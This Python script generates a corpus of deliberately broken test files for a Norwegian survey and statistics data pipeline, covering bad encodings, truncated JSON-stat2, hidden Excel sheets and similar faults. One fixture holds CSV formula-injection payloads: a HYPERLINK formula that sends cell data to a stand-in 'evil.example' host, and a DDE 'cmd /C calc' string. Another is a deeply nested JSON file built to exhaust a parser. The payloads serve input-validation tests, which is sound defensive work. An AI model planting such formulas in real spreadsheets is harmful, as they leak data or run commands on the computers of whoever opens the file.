"""Write the bad-input corpus: every file is wrong in one way, described in manifest.yml.

`python tests/data/bad/generate_bad_inputs.py` rewrites the small files beside this script (they are
committed); the large ones (a 50 MB JSON-stat2 document, a survey of 100 000 rows) are written
only with `--large DIR`, which the tests do into a temporary folder. The expected outcome of each
case is in manifest.yml and asserted by tests/integration/test_bad_inputs.py.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).parent

SURVEY_HEADER = [
    "respondent_id",
    "town",
    "industry",
    "size_class",
    "sector",
    "founded",
    "innov_product",
    "arena_cross_sector",
    "creativity_diversity",
    "kontakt_epost",
    "kommentar",
]
INTERVIEW_HEADER = [
    "interview_id",
    "date",
    "town",
    "informant_role",
    "organisation",
    "informant_name",
    "informant_email",
    "mode",
    "duration_min",
    "consent",
    "themes",
    "notes",
]


def respondent(n: int, town: str = "Bodø", **changes: str) -> list[str]:
    row = {
        "respondent_id": f"B-{n:06d}",
        "town": town,
        "industry": "C",
        "size_class": "5-19",
        "sector": "privat",
        "founded": "1999",
        "innov_product": "ja",
        "arena_cross_sector": "4",
        "creativity_diversity": "vet ikke",
        "kontakt_epost": f"leder{n}@firma-{n}.example.no",
        "kommentar": f"Hilsen Leder Nummer{n}",
    }
    row.update(changes)
    return [row[c] for c in SURVEY_HEADER]


def interview(n: int, **changes: str) -> list[str]:
    row = {
        "interview_id": f"IB-{n:03d}",
        "date": "12.05.2024",
        "town": "Narvik",
        "informant_role": "business",
        "organisation": f"Bedrift {n} AS",
        "informant_name": f"Informant Etternavn{n}",
        "informant_email": f"inf{n}@bedrift.example.no",
        "mode": "fysisk",
        "duration_min": "45",
        "consent": "ja",
        "themes": "strengths; barriers",
        "notes": f"Informant Etternavn{n} sa noe fortrolig.",
    }
    row.update(changes)
    return [row[c] for c in INTERVIEW_HEADER]


def csv_bytes(
    rows: list[list[str]],
    header: list[str] = SURVEY_HEADER,
    delimiter: str = ";",
    encoding: str = "utf-8",
) -> bytes:
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter, lineterminator="\r\n").writerows([header, *rows])
    return text.getvalue().encode(encoding)


def xlsx(
    path: Path,
    rows: list[list[object]],
    header: list[str] = SURVEY_HEADER,
    title: str = "Svar",
    merge: str | None = None,
) -> None:
    book = Workbook()
    sheet = book.active
    sheet.title = title
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    if merge:
        sheet.merge_cells(merge)
    book.save(path)


def jsonstat(values: list[object] | None = None, **changes: object) -> dict:
    """A small, valid JSON-stat2 document of table 07459: Bodø and Narvik, 2023 and 2024."""
    document = {
        "version": "2.0",
        "class": "dataset",
        "label": "07459: Befolkning, etter region, statistikkvariabel og år",
        "source": "Statistisk sentralbyrå",
        "updated": "2025-02-20T07:00:00Z",
        "id": ["Region", "ContentsCode", "Tid"],
        "size": [2, 1, 2],
        "role": {"time": ["Tid"], "metric": ["ContentsCode"], "geo": ["Region"]},
        "dimension": {
            "Region": {
                "label": "region",
                "category": {
                    "index": {"K-1804": 0, "K-1806": 1},
                    "label": {"K-1804": "Bodø", "K-1806": "Narvik"},
                },
            },
            "ContentsCode": {
                "label": "statistikkvariabel",
                "category": {
                    "index": {"Personer1": 0},
                    "label": {"Personer1": "Personer"},
                    "unit": {"Personer1": {"base": "personer", "decimals": 0}},
                },
            },
            "Tid": {
                "label": "år",
                "category": {
                    "index": {"2023": 0, "2024": 1},
                    "label": {"2023": "2023", "2024": "2024"},
                },
            },
        },
        "value": values if values is not None else [53500, 53712, 21800, 21700],
    }
    document.update(changes)
    return document


def dump(document: object) -> bytes:
    return json.dumps(document, ensure_ascii=False).encode("utf-8")


def statbank_cases() -> dict[str, bytes]:
    good = dump(jsonstat())
    unknown_dim = jsonstat()
    unknown_dim["id"] = ["Region", "Alder", "Tid"]
    no_time = jsonstat(values=[53712, 21700])
    no_time["id"], no_time["size"] = ["Region", "ContentsCode"], [2, 1]
    del no_time["dimension"]["Tid"]
    duplicate_index = jsonstat()
    duplicate_index["dimension"]["Region"]["category"]["index"] = {"K-1804": 0, "K-1806": 0}
    v1 = {
        "dataset": {
            "label": "Befolkning",
            "source": "SSB",
            "dimension": {
                "id": ["Region", "Tid"],
                "size": [1, 1],
                "Region": {"category": {"index": {"K-1804": 0}}},
                "Tid": {"category": {"index": {"2024": 0}}},
            },
            "value": [53712],
        }
    }
    cp1252 = dump(jsonstat()).decode("utf-8").encode("cp1252")
    return {
        "st_truncated.json": good[: len(good) // 2],
        "st_size_mismatch.json": dump(jsonstat(size=[2, 1, 3])),
        "st_unknown_dimension_in_id.json": dump(unknown_dim),
        "st_values_as_strings.json": dump(jsonstat(values=["53500", "53712", "21800", "21700"])),
        "st_status_on_missing_index.json": dump(jsonstat(status={"7": ".."})),
        "st_jsonstat1_bundle.json": dump(v1),
        "st_html_error_page.json": b"<!DOCTYPE html>\n<html><head><title>503 Service "
        b"Unavailable</title></head><body><h1>Service Unavailable</h1></body></html>\n",
        "st_empty.json": b"",
        "st_windows1252.json": cp1252,
        "st_collection_not_dataset.json": dump(
            {"version": "2.0", "class": "collection", "link": {"item": []}}
        ),
        "st_no_time_dimension.json": dump(no_time),
        "st_duplicate_category_index.json": dump(duplicate_index),
        "st_value_too_few.json": dump(jsonstat(values=[53500, 53712, 21800])),
        "st_value_is_text.json": dump(jsonstat(values=[53500, "mange", 21800, 21700])),
        "st_all_missing_with_status.json": dump(
            jsonstat(values=[None] * 4, status={str(i): ".." for i in range(4)})
        ),
        "st_sparse_value_object.json": dump(jsonstat(values={"0": 53500, "3": 21700})),
        "st_array_not_object.json": b"[1, 2, 3]",
        "st_nested_too_deep.json": b"[" * 100_000 + b"]" * 100_000,
    }


def survey_cases() -> dict[str, bytes]:
    good = [respondent(i) for i in range(1, 4)]
    return {
        "sv_wrong_delimiter.csv": csv_bytes(good, delimiter="|"),
        "sv_missing_column.csv": csv_bytes(
            [r[:1] + r[2:] for r in good], header=SURVEY_HEADER[:1] + SURVEY_HEADER[2:]
        ),
        "sv_extra_column.csv": csv_bytes(
            [[*r, "blå"] for r in good], header=[*SURVEY_HEADER, "favorittfarge"]
        ),
        "sv_empty.csv": b"",
        "sv_header_only.csv": csv_bytes([]),
        "sv_duplicate_respondent.csv": csv_bytes([*good, respondent(2, "Fauske")]),
        "sv_out_of_range_answer.csv": csv_bytes([*good, respondent(4, arena_cross_sector="7")]),
        "sv_unknown_town.csv": csv_bytes([*good, respondent(4, "Tromsø")]),
        "sv_binary_renamed.csv": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4,
        "sv_lookalike_town.csv": csv_bytes([*good, respondent(4, "B\u043ed\u00f8")]),  # Cyrillic o
        "sv_leading_apostrophe.csv": csv_bytes(
            [*good, respondent(4, founded="'1987", arena_cross_sector="'3")]
        ),
        "sv_csv_injection.csv": csv_bytes(
            [
                *good,
                respondent(4, kommentar='=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")'),
                respondent(5, town='=HYPERLINK("http://evil.example","Bodø")'),
                respondent(6, industry="@SUM(1+1)*cmd|' /C calc'!A0"),
            ]
        ),
        "sv_row_with_10000_columns.csv": csv_bytes(
            [*good, respondent(4) + ["x"] * (10_000 - len(SURVEY_HEADER))]
        ),
        "sv_only_bad_rows.csv": csv_bytes([respondent(1, "Oslo"), respondent(2, "Tromsø")]),
        "sv_missing_respondent_id.csv": csv_bytes([*good, respondent(4, respondent_id="")]),
        "sv_blank_lines_between_rows.csv": csv_bytes(good[:1])
        + b"\r\n\r\n"
        + csv_bytes([respondent(9, "Leknes", sector="kommunal")]).split(b"\r\n", 1)[1],
        "sv_quoted_newline_in_comment.csv": csv_bytes(
            [*good[:2], respondent(3, kommentar="Første linje\nandre linje; med semikolon")]
        ),
        "sv_not_a_number_year.csv": csv_bytes([*good, respondent(4, founded="nittenåttisju")]),
        "sv_windows1252.csv": csv_bytes([*good, respondent(4, "Brønnøysund")], encoding="cp1252"),
        "sv_bom_comma.csv": csv_bytes(good, delimiter=",", encoding="utf-8-sig"),
        "sv_windows1252_unknown_bytes.csv": csv_bytes(good).replace(b"Bod\xc3\xb8", b"Bod\x81\x8d"),
        "sv_utf16_unicode_text.csv": csv_bytes(
            [*good, respondent(4, "Tromsø")], delimiter="\t", encoding="utf-16"
        ),
        "sv_utf16_without_bom.csv": csv_bytes(good, encoding="utf-16-le"),
    }


def survey_workbooks(folder: Path) -> list[str]:
    good = [respondent(i) for i in range(1, 4)]
    xlsx(folder / "sv_merged_header_cells.xlsx", good, merge="B1:C1")
    formulas = [respondent(1), respondent(2, arena_cross_sector="=2+2")]
    xlsx(folder / "sv_formulas.xlsx", formulas)
    dated = [respondent(1), respondent(2)]
    dated[1][SURVEY_HEADER.index("founded")] = 36161  # 1999-01-01 as an Excel day number
    import datetime as dt

    dated.append(respondent(3))
    dated[2][SURVEY_HEADER.index("founded")] = dt.datetime(1987, 6, 1)
    xlsx(folder / "sv_dates_as_numbers.xlsx", dated)
    xlsx(folder / "sv_missing_sheet.xlsx", good, title="Ark1")
    (folder / "sv_not_a_zip.xlsx").write_bytes("respondent_id;town\nB-1;Bodø\n".encode())
    xlsx(folder / "sv_no_rows.xlsx", [], header=[])
    return [
        "sv_merged_header_cells.xlsx",
        "sv_formulas.xlsx",
        "sv_dates_as_numbers.xlsx",
        "sv_missing_sheet.xlsx",
        "sv_not_a_zip.xlsx",
        "sv_no_rows.xlsx",
        *sheet_traps(folder),
    ]


def with_old_answers() -> Workbook:
    """A workbook whose first sheet, hidden, holds last year's answers and whose second, visible
    and active, holds this year's (as a person sees it when opening the file)."""
    book = Workbook()
    old = book.active
    old.title = "Gamle svar"
    old.append(SURVEY_HEADER)
    for n in range(101, 106):
        old.append(respondent(n, "Narvik"))
    new = book.create_sheet("Svar")
    new.append(SURVEY_HEADER)
    for n in range(1, 4):
        new.append(respondent(n))
    book.active = new
    old.sheet_state = "hidden"
    return book


def hide_every_sheet(path: Path) -> None:
    """Mark every sheet of a saved workbook hidden (openpyxl will not save one like that)."""
    import zipfile

    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    workbook = parts["xl/workbook.xml"].decode("utf-8")
    workbook = workbook.replace(' state="visible"', ' state="hidden"')
    parts["xl/workbook.xml"] = workbook.encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)


def sheet_traps(folder: Path) -> list[str]:
    """Workbooks that are not what they declare: hidden sheets, a size set by one styled cell."""
    from openpyxl.styles import Font

    with_old_answers().save(folder / "sv_hidden_first_sheet.xlsx")
    with_old_answers().save(folder / "sv_hidden_sheet_asked_for.xlsx")
    with_old_answers().save(folder / "sv_every_sheet_hidden.xlsx")
    hide_every_sheet(folder / "sv_every_sheet_hidden.xlsx")
    book = Workbook()
    sheet = book.active
    sheet.title = "Svar"
    for row in [SURVEY_HEADER, *(respondent(n) for n in range(1, 4))]:
        sheet.append(row)
    sheet["XFD1048576"].font = Font(bold=True)  # the sheet now declares A1:XFD1048576
    book.save(folder / "sv_styled_cell_at_xfd1048576.xlsx")
    return [
        "sv_hidden_first_sheet.xlsx",
        "sv_hidden_sheet_asked_for.xlsx",
        "sv_every_sheet_hidden.xlsx",
        "sv_styled_cell_at_xfd1048576.xlsx",
    ]


def interview_cases() -> dict[str, bytes]:
    good = [interview(i) for i in range(1, 4)]
    return {
        "iv_no_consent.csv": csv_bytes([*good, interview(4, consent="nei")], INTERVIEW_HEADER, ","),
        "iv_impossible_date.csv": csv_bytes(
            [*good, interview(4, date="31.02.2024")], INTERVIEW_HEADER, ","
        ),
        "iv_unknown_role.csv": csv_bytes(
            [*good, interview(4, informant_role="astronaut")], INTERVIEW_HEADER, ","
        ),
        "iv_duplicate_interview.csv": csv_bytes([*good, interview(2)], INTERVIEW_HEADER, ","),
        "iv_unknown_theme.csv": csv_bytes(
            [*good, interview(4, themes="strengths; weather")], INTERVIEW_HEADER, ","
        ),
        "iv_missing_consent_column.csv": csv_bytes(
            [r[:9] + r[10:] for r in good], INTERVIEW_HEADER[:9] + INTERVIEW_HEADER[10:], ","
        ),
        "iv_decimal_comma_duration.csv": csv_bytes(
            [*good, interview(4, duration_min="42,5")], INTERVIEW_HEADER, ";"
        ),
        "iv_negative_duration.csv": csv_bytes(
            [*good, interview(4, duration_min="-30")], INTERVIEW_HEADER, ","
        ),
        "iv_date_outside_wave.csv": csv_bytes(
            [*good, interview(4, date="12.05.2019")], INTERVIEW_HEADER, ","
        ),
    }


def write_small(folder: Path) -> list[str]:
    names = []
    for cases in (statbank_cases(), survey_cases(), interview_cases()):
        for name, body in cases.items():
            (folder / name).write_bytes(body)
            names.append(name)
    names += survey_workbooks(folder)
    spaced = folder / "mappe med æøå"
    spaced.mkdir(exist_ok=True)
    (spaced / "spørreundersøkelse 2024 – Bodø.csv").write_bytes(
        csv_bytes([respondent(i) for i in range(1, 4)])
    )
    return names


def write_large(folder: Path) -> None:
    """A 50 MB JSON-stat2 document and a survey of 100 000 respondents."""
    folder.mkdir(parents=True, exist_ok=True)
    regions = {f"K-{1800 + i // 100:04d}{i % 100:02d}": i for i in range(2_000)}
    years = {str(y): i for i, y in enumerate(range(1900, 2025))}
    contents = {f"C{i}": i for i in range(20)}
    document = jsonstat()
    document["size"] = [len(regions), len(contents), len(years)]
    document["dimension"]["Region"]["category"] = {"index": regions}
    document["dimension"]["ContentsCode"]["category"] = {"index": contents}
    document["dimension"]["Tid"]["category"] = {"index": years}
    cells = len(regions) * len(contents) * len(years)
    document["value"] = [round((i * 7919) % 100_000 / 7, 3) for i in range(cells)]
    (folder / "st_large_50mb.json").write_bytes(dump(document))
    towns = [
        "Bodø",
        "Narvik",
        "Mo i Rana",
        "Mosjøen",
        "Sandnessjøen",
        "Brønnøysund",
        "Fauske",
        "Svolvær",
        "Leknes",
        "Sortland",
    ]
    rows = [respondent(i, towns[i % 10]) for i in range(1, 100_001)]
    (folder / "sv_100000_rows.csv").write_bytes(csv_bytes(rows))


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--large",
        type=Path,
        help="write only the large files, into this folder (the small ones stay as committed)",
    )
    arguments = parser.parse_args()
    if arguments.large:  # the tests: the committed files are read by other tests meanwhile
        write_large(arguments.large)
        print(f"wrote the large files to {arguments.large}")
    else:
        written = write_small(HERE)
        print(f"wrote {len(written)} files (+1 in 'mappe med æøå') to {HERE}")
